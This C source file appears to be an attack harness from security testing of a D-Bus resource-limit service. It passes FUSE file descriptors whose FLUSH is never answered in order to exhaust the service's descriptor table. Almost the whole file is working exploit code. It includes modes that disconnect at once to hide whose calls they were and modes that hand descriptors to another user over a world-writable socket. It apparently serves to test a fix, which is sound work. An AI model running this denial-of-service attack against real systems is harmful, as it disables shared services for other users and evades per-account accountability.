/* security-gate-exhaust 4 (found by the fresh attack on round four's
 * change): fill the serving gate's descriptor table with FUSE files whose
 * FLUSH is never answered, once the account has no retirement left.
 *   attack-gate-fill N_CALLS HOLD_S [MODE [SOCKET]]
 * Phase 1: two fresh connections each pass the FUSE file once (two retired
 * gates charged to this account). Phase 2: one connection passes the same
 * file N_CALLS times (64 in flight) to org.example.Resource1.Pidfd.
 * MODE (security-gate-private):
 *   gone         every call from a fresh connection that sends it and
 *                disconnects at once, never waiting for the answer: the bus
 *                can no longer say whose the call was;
 *   give SOCKET  serve the file system and hand the file, over the unix
 *                socket SOCKET, to "take" (another user), which passes it;
 *   take SOCKET  listen at SOCKET (mode 0777), take a file there and make
 *                the two phases with it;
 *   once         (security-gate-healthy) one PrlimitPidfd with the file,
 *                its answer printed ("ANSWER <ms> <error name>: <message>"),
 *                then an fstat() of the file, which asks the server
 *                ("SERVED ok", or the error: an aborted connection's
 *                ENOTCONN);
 *   takeonce SOCKET  take a file as "take" does, then one PrlimitPidfd
 *                with it as "once" does (no fstat: the server answers only
 *                its own).
 * Every mode prints the file's connection first ("CONN <n>").
 * The environment's ATTACK_FUSE_* are attack-fd-fuse.h's. */
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <systemd/sd-bus.h>
#include "attack-fd-fuse.h"

#define DEST "org.example.Resource1.Pidfd"
#define PATH "/org/example/Resource1"
#define IFACE "org.example.Resource1"

static unsigned answered, ok, inflight;
static char first_err[512], last_err[512];
static unsigned n_err;

static int on_reply(sd_bus_message *m, void *u, sd_bus_error *e) {
        (void) u, (void) e;
        const sd_bus_error *er = sd_bus_message_get_error(m);
        answered++;
        inflight--;
        if (!er) ok++;
        else {
                n_err++;
                snprintf(last_err, sizeof last_err, "%s: %s", er->name, er->message);
                if (!first_err[0]) snprintf(first_err, sizeof first_err, "%s", last_err);
        }
        return 0;
}

static sd_bus *conn(void) {
        sd_bus *b = NULL;
        if (sd_bus_open_system(&b) < 0) return NULL;
        return b;
}

static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

/* In "take" mode the calls are kept: freeing one closes its copy of the
 * file, which waits on the server (nobody's, which answers only its own
 * processes) unless the connection was aborted. */
static bool keep_sent;
static sd_bus_message *sent_calls[4096];
static unsigned n_sent_calls;

static int send_one(sd_bus *b, int fd) {
        sd_bus_message *m = NULL;
        inflight++;
        int r = sd_bus_message_new_method_call(b, &m, DEST, PATH, IFACE, "CanSetRlimitsPidfd");
        if (r >= 0) r = sd_bus_message_append(m, "ha(stt)", fd, 1, "NOFILE", (uint64_t) 64, (uint64_t) 64);
        if (r >= 0) r = sd_bus_call_async(b, NULL, m, on_reply, NULL, 0);
        if (r >= 0 && keep_sent && n_sent_calls < sizeof sent_calls / sizeof *sent_calls)
                sent_calls[n_sent_calls++] = sd_bus_message_ref(m);
        sd_bus_message_unref(m);
        if (r < 0) inflight--;
        return r;
}

static pid_t bus_pid(void) {
        sd_bus *b = conn(); uint32_t pid = 0; sd_bus_message *rep = NULL;
        if (b && sd_bus_call_method(b, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus",
                                    "GetConnectionUnixProcessID", NULL, &rep, "s", "org.freedesktop.DBus") >= 0)
                sd_bus_message_read(rep, "u", &pid);
        sd_bus_message_unref(rep); sd_bus_flush_close_unref(b);
        return pid;
}

/* One call from a connection of its own, which closes as soon as the call
 * is written: the bus reads the call and the hang-up together. */
static int send_gone(int fd) {
        sd_bus *b = conn();
        if (!b) return -ENOTCONN;
        int r = sd_bus_call_method_async(b, NULL, DEST, PATH, IFACE, "CanSetRlimitsPidfd", NULL, NULL, "ha(stt)",
                                         fd, 1, "NOFILE", (uint64_t) 64, (uint64_t) 64);
        if (r >= 0) r = sd_bus_flush(b);
        sd_bus_close_unref(b);
        return r;
}

static int unix_socket(const char *path, struct sockaddr_un *sa) {
        *sa = (struct sockaddr_un) { .sun_family = AF_UNIX };
        snprintf(sa->sun_path, sizeof sa->sun_path, "%s", path);
        return socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
}

static int give(const char *path, int fd) {
        struct sockaddr_un sa;
        int s = unix_socket(path, &sa);
        char c = 'F', buf[CMSG_SPACE(sizeof(int))] = {};
        struct iovec iov = { &c, 1 };
        struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = buf, .msg_controllen = sizeof buf };
        struct cmsghdr *cm = CMSG_FIRSTHDR(&mh);
        cm->cmsg_level = SOL_SOCKET; cm->cmsg_type = SCM_RIGHTS; cm->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(cm), &fd, sizeof fd);
        if (s < 0 || connect(s, (struct sockaddr *) &sa, sizeof sa) < 0 || sendmsg(s, &mh, 0) != 1) return -errno;
        /* Until the taker is done with it. */
        (void) !read(s, &c, 1);
        close(s);
        return 0;
}

static int take(const char *path, int *ret_fd, int *ret_conn) {
        struct sockaddr_un sa;
        int s = unix_socket(path, &sa);
        if (s < 0 || bind(s, (struct sockaddr *) &sa, sizeof sa) < 0 || chmod(path, 0777) < 0 || listen(s, 1) < 0)
                return -errno;
        printf("LISTENING\n");
        int c = accept4(s, NULL, NULL, SOCK_CLOEXEC);
        char x, buf[CMSG_SPACE(sizeof(int))] = {};
        struct iovec iov = { &x, 1 };
        struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = buf, .msg_controllen = sizeof buf };
        if (c < 0 || recvmsg(c, &mh, MSG_CMSG_CLOEXEC) != 1 || !CMSG_FIRSTHDR(&mh)) return -EPROTO;
        memcpy(ret_fd, CMSG_DATA(CMSG_FIRSTHDR(&mh)), sizeof(int));
        *ret_conn = c;
        close(s);
        return 0;
}

/* The end of a mode that took its file from a giver ("take", "takeonce"):
 * the file stays open here, as its calls keep it (its close, as this
 * process's exit, waits on the server unless the connection was aborted);
 * the giver is told the taker is done with it. */
static int hold_taken(int giver, double hold) {
        printf("READY\n");
        (void) !write(giver, "D", 1);
        sleep((unsigned) hold);
        return 0;
}

/* The end of a mode that serves its own file system: the file closed here
 * (the server answers this process), the server withholding for hold
 * seconds, then let go; b, the mode's bus connection if any, closed last. */
static int hold_served(FuseHold *h, int file, double hold, sd_bus *b) {
        close(file);
        printf("READY\n");
        sleep((unsigned) hold);
        fuse_hold_release(h);
        printf("RELEASED\n");
        sd_bus_flush_close_unref(b);
        return 0;
}

int main(int argc, char **argv) {
        unsigned n = argc > 1 ? (unsigned) atoi(argv[1]) : 25000;
        double hold = argc > 2 ? atof(argv[2]) : 30;
        setvbuf(stdout, NULL, _IOLBF, 0);
        alarm((unsigned) hold + 300);
        const char *mode = argc > 3 ? argv[3] : "";
        bool gone = strcmp(mode, "gone") == 0;
        FuseHold h = {}; char why[256] = ""; int file = -1, giver = -1, r;
        bool takeonce = strcmp(mode, "takeonce") == 0;
        if (strcmp(mode, "take") == 0 || takeonce) {
                r = argc > 4 ? take(argv[4], &file, &giver) : -EINVAL;
                if (r < 0) { printf("FAIL take: %s\n", strerror(-r)); return 1; }
                printf("TOOK a file\n");
                keep_sent = true;
        } else {
                pid_t allowed[2] = { getpid(), bus_pid() };
                r = fuse_hold_start(&h, allowed, 2, &file, why, sizeof why);
                if (r < 0) { printf("SKIP %s %s\n", why, strerror(-r)); return 0; }
                printf("FUSE server=%d bus=%d\n", (int) h.server, (int) allowed[1]);
        }
        struct statx stx;
        if (statx(file, "", AT_EMPTY_PATH | AT_STATX_DONT_SYNC, 0, &stx) == 0)
                printf("CONN %u\n", stx.stx_dev_major << 20 | stx.stx_dev_minor);
        if (strcmp(mode, "give") == 0) {
                r = argc > 4 ? give(argv[4], file) : -EINVAL;
                printf("GAVE %s\n", r < 0 ? strerror(-r) : "ok");
                return hold_served(&h, file, hold, NULL);
        }
        if (strcmp(mode, "once") == 0 || takeonce) {
                sd_bus *b = conn();
                sd_bus_error e = SD_BUS_ERROR_NULL;
                double t0 = now();
                /* The call is never freed: that would close its copy of the
                 * file, which waits on a server that answers only its own. */
                sd_bus_message *m = NULL;
                r = b ? sd_bus_message_new_method_call(b, &m, DEST, PATH, IFACE, "PrlimitPidfd") : -ENOTCONN;
                if (r >= 0)
                        r = sd_bus_message_append(m, "hsbtt", file, "NOFILE", 0, (uint64_t) 0, (uint64_t) 0);
                if (r >= 0)
                        r = sd_bus_call(b, m, 0, &e, NULL);
                printf("ANSWER %.0f %s: %s\n", (now() - t0) * 1000, r >= 0 ? "ok" : e.name ?: strerror(-r),
                       e.message ?: "");
                sd_bus_error_free(&e);
                if (takeonce)
                        return hold_taken(giver, hold);
                struct stat st;
                printf("SERVED %s\n", fstat(file, &st) == 0 ? "ok" : strerror(errno));
                return hold_served(&h, file, hold, b);
        }
        if (gone) {
                /* Every call from a connection gone before its answer. */
                unsigned sent = 0, failed = 0;
                double t0 = now();
                for (unsigned i = 0; i < n + 2; i++)
                        if (send_gone(file) >= 0) sent++; else failed++;
                printf("FILL gone sent=%u failed=%u secs=%.1f\n", sent, failed, now() - t0);
                return hold_served(&h, file, hold, NULL);
        }

        /* Phase 1: two retirements, each from its own connection. */
        for (int i = 0; i < 2; i++) {
                sd_bus *b = conn();
                answered = 0;
                send_one(b, file);
                double t0 = now();
                while (answered == 0 && now() - t0 < 10) { sd_bus_process(b, NULL); sd_bus_wait(b, 100000); }
                printf("RETIRE %d answered=%u %s\n", i, answered, last_err);
                sd_bus_flush_close_unref(b);
                usleep(300000);
        }
        /* Phase 2: one connection, the same file n times. */
        sd_bus *b = conn();
        /* Phase 1's calls still unanswered went with their connections. */
        answered = ok = n_err = inflight = 0; first_err[0] = 0;
        unsigned sent = 0;
        double t0 = now(), lastp = t0;
        while (now() - t0 < 120) {
                while (sent < n && inflight < 64) {
                        if (send_one(b, file) < 0) { printf("# send failed at %u\n", sent); n = sent; break; }
                        sent++;
                }
                r = sd_bus_process(b, NULL);
                if (r < 0) { printf("# our connection failed: %s\n", strerror(-r)); break; }
                if (r == 0) sd_bus_wait(b, 100000);
                if (now() - lastp > 1) { lastp = now(); printf("PROGRESS sent=%u answered=%u last=%s\n", sent, answered, last_err); }
                if (sent >= n && inflight == 0) break;
        }
        printf("FILL sent=%u answered=%u ok=%u errors=%u secs=%.1f\nFIRST_ERR %s\nLAST_ERR %s\n", sent, answered, ok,
               n_err, now() - t0, first_err, last_err);
        if (giver >= 0)
                return hold_taken(giver, hold);
        return hold_served(&h, file, hold, b);
}
